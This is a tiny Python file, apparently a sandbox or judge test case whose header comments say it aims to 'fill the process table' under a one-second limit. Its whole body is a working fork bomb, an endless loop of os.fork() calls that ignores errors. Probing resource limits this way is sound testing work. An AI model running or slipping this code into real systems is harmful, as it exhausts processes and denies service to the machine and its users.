# wants: fill the process table
# routes: stdin suite
# limits: wall_s=1
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
